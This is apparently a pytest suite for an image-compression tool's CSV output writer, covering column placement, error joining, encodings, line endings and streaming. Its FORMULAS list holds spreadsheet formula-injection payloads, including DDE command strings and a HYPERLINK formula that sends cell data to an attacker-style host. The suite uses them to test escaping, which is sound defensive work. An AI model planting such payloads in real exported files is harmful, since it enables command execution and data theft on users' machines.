"""The output CSV, cell by cell."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest

from imgcompress.csvfile import BadCatalogue, ImageFailure, Validation, kept_layout, write_errors
from imgcompress.csvfile.verbatim import write_replaced
from imgcompress.csvfile.writer import write_catalogue

from .files import HEADER, Outcome, rows_of, stream_of, surveyed, written

A, B, C = "https://a.test/1.jpg", "https://b.test/2.jpg", "https://c.test/3.jpg"
X, Y = "https://out.test/image/x.jpg", "https://out.test/image/y.jpg"
OUTPUT_HEADER = ["S. No.", "Product Name", "Input Image Urls", "Output Image Urls", "Image Errors"]


def table_of(content: str | bytes, *outcomes: Outcome, delimiter: str = ",") -> list[list[str]]:
    text = written(content, *outcomes).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def done(row: int, position: int, url: str) -> Outcome:
    return Outcome(row, position, url, None)


def failed(row: int, position: int, error: str) -> Outcome:
    return Outcome(row, position, None, error)


def test_outputs_stand_in_the_slots_of_their_urls() -> None:
    text = f'{HEADER}1,Lamp,"{A},{B},{C}"\n2,Sofa,{A}\n'
    assert table_of(
        text,
        done(2, 0, X),
        failed(2, 1, "source_status: The server answered 404."),
        done(2, 2, Y),
        done(3, 0, X),
    ) == [
        OUTPUT_HEADER,
        ["1", "Lamp", f"{A},{B},{C}", f"{X},,{Y}", "2: source_status: The server answered 404."],
        ["2", "Sofa", A, X, ""],
    ]


def test_output_columns_of_an_earlier_run_are_replaced() -> None:
    text = f'{HEADER}1,Lamp,"{A},{B}"\n2,Sofa,{A}\n'
    first = written(text, done(2, 0, X), failed(2, 1, "dns_failed: x"), done(3, 0, X))
    second = written(first, failed(2, 0, "too_large: y"), done(2, 1, Y), done(3, 0, Y))
    assert list(csv.reader(io.StringIO(second.decode("utf-8-sig"), newline=""))) == [
        OUTPUT_HEADER,
        ["1", "Lamp", f"{A},{B}", f",{Y}", "1: too_large: y"],
        ["2", "Sofa", A, Y, ""],
    ]
    assert written(second, failed(2, 0, "too_large: y"), done(2, 1, Y), done(3, 0, Y)) == second


def test_output_columns_are_replaced_where_they_stand() -> None:
    text = (
        f"Image Errors,S. No.,Output Image Urls,Product Name,Input Image Urls,Note\n"
        f"old,1,{B},Lamp,{A},x\n,2\n"
    )
    assert table_of(text, done(2, 0, X)) == [
        ["Image Errors", "S. No.", "Output Image Urls", "Product Name", "Input Image Urls", "Note"],
        ["", "1", X, "Lamp", A, "x"],
        ["", "2", "", "", "", ""],
    ]


def test_a_missing_output_column_is_added_beside_one_that_is_there() -> None:
    text = f"S. No.,Product Name,Input Image Urls,Image Errors\n1,Lamp,{A},old\n"
    assert table_of(text, done(2, 0, X)) == [
        ["S. No.", "Product Name", "Input Image Urls", "Image Errors", "Output Image Urls"],
        ["1", "Lamp", A, "", X],
    ]


def test_several_errors_are_joined() -> None:
    text = f'{HEADER}1,Lamp,"{A},{B}"\n'
    assert table_of(text, failed(2, 0, "dns_failed: x"), failed(2, 1, "too_large: y"))[1][3:] == [
        ",",
        "1: dns_failed: x | 2: too_large: y",
    ]


def test_slots_of_a_partial_download_stay_empty() -> None:
    text = f'{HEADER}1,Lamp,"{A},{B}"\n2,Sofa,{A}\n3,Chair,"{A} {B}"\n4,Desk,{C}\n'
    assert [row[3] for row in table_of(text, done(2, 1, X), done(4, 0, Y))] == [
        "Output Image Urls",
        f",{X}",
        "",
        f"{Y},",
        "",
    ]


def test_outcomes_of_rows_that_hold_no_image_are_passed_over() -> None:
    assert table_of(f"{HEADER}\n2,Sofa,{A}\n", done(1, 0, X), done(2, 0, X), done(3, 0, Y))[-1] == [
        "2",
        "Sofa",
        A,
        Y,
        "",
    ]


def test_the_callers_cells_and_columns_and_blank_rows_are_kept() -> None:
    text = f'\r\nNote,Input Image Urls,S. No.,Product Name,Note\r\n" a ""b""\n",{A}, 1 ,"x,y",\r\n'
    assert written(f"{text}\r\n,,,,\r\n", done(3, 0, X)).decode() == (
        "\r\nNote,Input Image Urls,S. No.,Product Name,Note,Output Image Urls,Image Errors\r\n"
        f'" a ""b""\n",{A}, 1 ,"x,y",,{X},\r\n\r\n,,,,\r\n'
    )


def test_spilled_urls_go_back_to_their_cell_and_short_rows_are_filled() -> None:
    text = f"S. No.,Product Name,Input Image Urls\n1,Lamp,{A},{B}\n"
    assert table_of(text, done(2, 1, X))[1] == ["1", "Lamp", f"{A},{B}", f",{X}", ""]
    short = f"S. No.,Input Image Urls,Product Name,Brand\n1,{A}\n"
    assert table_of(short, done(2, 0, X))[1] == ["1", A, "", "", X, ""]


@pytest.mark.parametrize("delimiter", ",;\t|")
def test_the_separator_is_the_callers(delimiter: str) -> None:
    text = f"{HEADER}1,Lamp,{A}\n".replace(",", delimiter)
    assert table_of(text, done(2, 0, X), delimiter=delimiter) == [
        OUTPUT_HEADER,
        ["1", "Lamp", A, X, ""],
    ]


def test_excels_sep_line_is_kept() -> None:
    text = f"sep=;\r\n{HEADER}1,Lamp,{A}\n".replace(",", ";")
    assert written(text).decode().startswith("sep=;\nS. No.;")


@pytest.mark.parametrize(
    "encoding, marked",
    [
        ("utf-8", False),
        ("utf-8-sig", True),
        ("utf-16", True),
        ("utf-16-le", True),
        ("cp1252", True),
    ],
)
def test_the_output_is_utf_8_marked_unless_the_input_was_plain_utf_8(
    encoding: str, marked: bool
) -> None:
    output = written(f"{HEADER}1,Café,{A}\n".encode(encoding))
    assert output.startswith(b"\xef\xbb\xbf") is marked
    assert output.count("Café".encode()) == 1
    assert output.decode("utf-8-sig").startswith("S. No.,")


@pytest.mark.parametrize(
    "ending, output_ending", [("\n", b"\n"), ("\r\n", b"\r\n"), ("\r", b"\r\n")]
)
def test_lines_end_as_the_callers_did_or_with_crlf(ending: str, output_ending: bytes) -> None:
    output = written(f"{HEADER}1,Lamp,{A}\n".replace("\n", ending), done(2, 0, X))
    assert output == output_ending.join(
        [
            b"S. No.,Product Name,Input Image Urls,Output Image Urls,Image Errors",
            f"1,Lamp,{A},{X},".encode(),
            b"",
        ]
    )


def test_a_bare_cr_in_a_cell_survives_among_lf_lines() -> None:
    assert table_of(f'{HEADER}1,"a\rb",{A}\n')[1][1] == "a\rb"


FORMULAS = [
    "=cmd|'/c calc'!A1",
    "=1+1",
    "+1+1",
    "-2+3",
    "-1-1|cmd",
    "@SUM(1+1)*cmd",
    "\t=1",
    "\rtext",
    " =1",
    "\u00a0=1",
    "\u3000+A1",
    "\u200b=1",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.test?"&A1,"x")',
    "+44 20 7946",
    "- dash",
    "-5+cmd|' /c'!A0",
    "\n=1",
    "=",
    "=-5",
    "+٣",
]
HARMLESS = [
    "-5",
    "+3.2",
    "-1,234.50",
    "-5 %",
    "+1.5e-3",
    "-.5",
    " -7",
    "-",
    "a=b",
    "x-1",
    "1+1",
    "",
    "'=1",
    "3@home",
    "<=5",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_could_run_as_a_formula_is_escaped(cell: str) -> None:
    rows = [["S. No.", "Product Name", "Input Image Urls", cell], ["1", cell, A, ""]]
    text = io.StringIO(newline="")
    csv.writer(text).writerows(rows)
    header, row = table_of(text.getvalue(), failed(2, 0, "x"))
    assert (header[3], row[1]) == (f"'{cell}", f"'{cell}")


@pytest.mark.parametrize("cell", HARMLESS)
def test_plain_numbers_and_other_text_stay_untouched(cell: str) -> None:
    assert table_of(f'{HEADER}1,"{cell}",{A}\n')[1][1] == cell


def test_our_own_errors_and_urls_are_escaped_too() -> None:
    row = table_of(f"{HEADER}1,Lamp,{A}\n", Outcome(2, 0, "=evil()", None))[1]
    assert row[3] == "'=evil()"


def test_rows_with_errors_are_carried_through_with_the_reason() -> None:
    text = (
        f"{HEADER[:-1]},imgcompress quality\n1,Lamp,{A},70\n2,Sofa,{A},700\n"
        f'3,"a"b,{A},\n4,Chair,see page 3,\n5,Desk,{A},,note,more\n\n6,Bed,{B},\n'
    )
    wishes: dict[str, Any] = {"skip_bad_rows": True}
    found = surveyed(text, **wishes)
    assert (found.issue_count, found.total_rows, found.total_images) == (0, 6, 3)
    assert found.skipped_rows == 3
    codes = ["invalid_number", "stray_quote", "invalid_url", "extra_cells"]
    assert [(warning.row, warning.code) for warning in found.warnings] == [
        *zip(range(3, 7), codes, strict=True)
    ]
    assert [row.number for row in rows_of(text, **wishes)] == [2, 5, 8]
    outcomes = done(2, 0, X), failed(5, 0, "url_not_allowed: x"), done(8, 0, Y)
    output = written(text, *outcomes, **wishes).decode()
    rows = list(csv.reader(io.StringIO(output, newline=""), strict=True))
    assert [row[2:5] for row in rows[1:] if row] == [
        [A, "70", X],
        [A, "700", ""],
        [A, "", ""],
        ["see page 3", "", ""],
        [A, ",note,more", ""],
        [B, "", Y],
    ]
    assert [row[5].partition(":")[0] for row in rows[1:] if row] == [
        "",
        *codes[:2],
        "1",
        codes[3],
        "",
    ]
    assert b"".join(write_replaced(stream_of(text), outcomes, kept_of(found))).decode() == (
        text.replace(A, X, 1).replace(B, Y)
    )
    with_changes = write_catalogue(
        stream_of(text), outcomes, kept=kept_of(found), columns=["change"]
    )
    rows = list(csv.reader(io.StringIO(b"".join(with_changes).decode(), newline=""), strict=True))
    assert [len(row) for row in rows if row] == [7] * 7
    failures = [ImageFailure(5, 0, "url_not_allowed", "x")]
    values = b"".join(write_errors(stream_of(text), failures, kept=kept_of(found))).decode()
    assert [row[:4] for row in csv.reader(io.StringIO(values))] == [
        ["Row", "Column", "URL", "Code"],
        ["3", "imgcompress quality", "700", "invalid_number"],
        ["4", "Product Name", f'"a"b,{A},', "stray_quote"],
        ["5", "Input Image Urls", "see page 3", "url_not_allowed"],
        ["6", "", "note,more", "extra_cells"],
    ]


def kept_of(found: Validation) -> dict[str, Any]:
    assert found.layout
    return json.loads(json.dumps(kept_layout(found.layout)))


def test_a_file_without_any_valid_row_is_rejected_with_its_issues() -> None:
    text = f"{HEADER[:-1]},imgcompress quality\n1,Lamp,{A},700\n"
    assert [issue.code for issue in surveyed(text, skip_bad_rows=True).issues] == ["invalid_number"]


def test_rows_after_a_quotation_mark_that_is_not_closed_cannot_be_skipped_to() -> None:
    text = f'{HEADER}1,Lamp,{A}\n2,"Sofa,{A}\n3,Bed,{A}\n'
    assert [issue.code for issue in surveyed(text, skip_bad_rows=True).issues] == ["unclosed_quote"]


def test_the_output_streams() -> None:
    source = stream_of(HEADER + f"1,Lamp,{A}\n" * 20_000)
    asked: list[int] = []

    def outcomes() -> Iterator[Outcome]:
        for number in range(2, 20_002):
            asked.append(number)
            yield done(number, 0, X)

    chunks = write_catalogue(source, outcomes())
    next(chunks)
    assert len(asked) < 2_000


def test_a_source_that_is_not_a_catalogue_is_rejected() -> None:
    with pytest.raises(BadCatalogue):
        written("a,b\n1,2\n")


def test_the_output_is_itself_a_valid_catalogue() -> None:
    text = f'{HEADER}1,Lamp,"{A},{B}"\n'
    again = written(written(text, done(2, 0, X)), done(2, 0, Y))
    row = list(csv.reader(io.StringIO(again.decode())))[1]
    assert row == ["1", "Lamp", f"{A},{B}", f"{Y},", ""]
